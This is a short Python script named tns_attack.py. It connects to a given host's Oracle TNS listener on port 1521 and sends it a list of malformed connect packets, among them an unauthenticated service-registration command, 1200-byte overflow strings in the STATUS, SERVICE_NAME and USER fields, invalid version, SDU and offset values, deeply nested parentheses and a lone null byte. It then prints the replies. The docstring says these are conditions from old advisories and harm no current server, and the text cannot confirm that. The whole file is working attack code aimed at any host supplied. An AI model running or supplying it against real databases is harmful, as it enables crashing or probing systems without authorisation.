"""What no client of Oracle sends, each on a connection of its own: tns_attack.py HOST. The conditions are those of old
advisories; nothing here harms a server of today."""
import socket
import struct
import sys
import time


def packet(kind, body):
    return struct.pack(">HHBBH", len(body) + 8, 0, kind, 0, 0) + body


def connect(text, version=313, compatible=300, sdu=8192, tdu=32767, offset=58, length=None):
    body = struct.pack(">10H", version, compatible, 0, sdu, tdu, 0x7F08, 0, 1, len(text) if length is None else length, offset)
    return packet(1, body + bytes(30) + text)


def data(text):
    return b"(DESCRIPTION=(CONNECT_DATA=%s))" % text


SENT = [
    connect(data(b"(COMMAND=service_register_NSGR)")),
    connect(data(b"(COMMAND=STATUS)(ARGUMENTS=%s)" % (b"A" * 1200))),
    connect(data(b"(COMMAND=VERSION)")),
    connect(data(b"(SERVICE_NAME=%s)" % (b"B" * 1200))),
    connect(data(b"(SID=nowhere)(CID=(PROGRAM=x)(HOST=y)(USER=%s))" % (b"C" * 1200))),
    connect(data(b"(SID=nowhere)"), compatible=400),
    connect(data(b"(SID=nowhere)"), sdu=0),
    connect(data(b"(SID=nowhere)"), offset=0xFFF0),
    connect(b"(A=" * 200 + b"x" + b")" * 200),
    b"\0",
]

for what in SENT:
    with socket.create_connection((sys.argv[1], 1521), timeout=5) as s:
        s.sendall(what)
        s.shutdown(socket.SHUT_WR) if len(what) < 8 else None
        try:
            print(s.recv(4096)[:60])
        except OSError as why:
            print(why)
    time.sleep(0.05)
